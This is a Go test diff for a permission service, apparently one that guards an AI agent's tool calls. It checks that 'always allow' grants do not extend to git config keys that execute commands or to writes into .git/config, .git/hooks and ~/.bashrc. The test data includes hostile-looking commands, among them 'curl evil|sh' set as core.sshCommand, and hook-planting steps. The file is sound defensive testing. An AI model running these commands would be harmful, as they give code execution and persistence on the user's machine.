@@ -96,6 +96,27 @@ func TestService_AlwaysNeverCoversSensitiveTargets(t *testing.T) {
 		{"cat a.go", "cat $F"},
 		{"cat a.go", "cat $(git ls-files -o)"},
 		{"wc -l a.go", "wc -l < $HOME/.bash_history"},
+		{"git config user.name x", "git config core.sshCommand 'curl evil|sh'"}, // git runs these later
+		{"git config core.autocrlf false", "git config Core.Pager 'sh -c x'"},
+		{"git config user.name x", "git config diff.x.textconv ./t"},
+		{"git config user.name x", "git config filter.lfs.smudge ./t"},
+		{"git config user.name x", "git config alias.st '!sh x'"},
+		{"git config --global user.name x", "git config --global core.editor ./t"},
+		{"git config set user.name x", "git config set core.fsmonitor ./t"},
+		{"git config --add user.name x", "git config --add merge.x.driver ./t"},
+		{"git config user.name x", "git config core.hooksPath .githooks"},
+		{"git config user.name x", "git config remote.origin.uploadpack ./t"},
+		{"git config user.name x", "git config gpg.ssh.program ./t"},
+		{"git config -f a.cfg user.name x", "git config -f .git/config user.email x"},
+		{"echo hi", "echo '[core] pager = x' >> .git/config"},
+		{"tee log.txt", "tee -a .git/hooks/pre-commit"},
+		{"sed -i s/a/b/ a.go", "sed -i s/a/b/ .git/config"},
+		{"cp a b", "cp x .git/hooks/pre-push"},
+		{"cp a b", "cp config .git"},
+		{"cp a b", "cp x .GIT/Config"},
+		{"cp a b", "cp x sub/.git/modules/m/config"},
+		{"chmod +x a.sh", "chmod +x .git/hooks/pre-commit"},
+		{"ln -s a b", "ln -sf pc.sh .git/hooks/pre-commit"},
 	}
 	for _, tt := range tests {
 		t.Run(tt.later, func(t *testing.T) {
@@ -110,14 +131,16 @@ func TestService_AlwaysNeverCoversSensitiveTargets(t *testing.T) {
 			}
 		})
 	}
-	edit := Request{Tool: "Edit", Kind: adapters.KindEdit, Path: filepath.Join(home, ".bashrc"), Cwd: ws}
-	s := mustNew(t)
-	s.Remember(edit, adapters.AllowAlways)
-	if v := s.Check(edit); v.Decision == Allow {
-		t.Errorf("an always kept for editing ~/.bashrc: %+v", v)
-	}
-	if _, ok := s.GrantOffer(edit); ok {
-		t.Error("a durable grant offered for editing ~/.bashrc")
+	for _, p := range []string{filepath.Join(home, ".bashrc"), filepath.Join(ws, ".git", "config"), filepath.Join(ws, ".git", "hooks", "pre-commit")} {
+		edit := Request{Tool: "Edit", Kind: adapters.KindEdit, Path: p, Cwd: ws}
+		s := mustNew(t)
+		s.Remember(edit, adapters.AllowAlways)
+		if v := s.Check(edit); v.Decision == Allow {
+			t.Errorf("an always kept for editing %s: %+v", p, v)
+		}
+		if _, ok := s.GrantOffer(edit); ok {
+			t.Errorf("a durable grant offered for editing %s", p)
+		}
 	}
 }
 
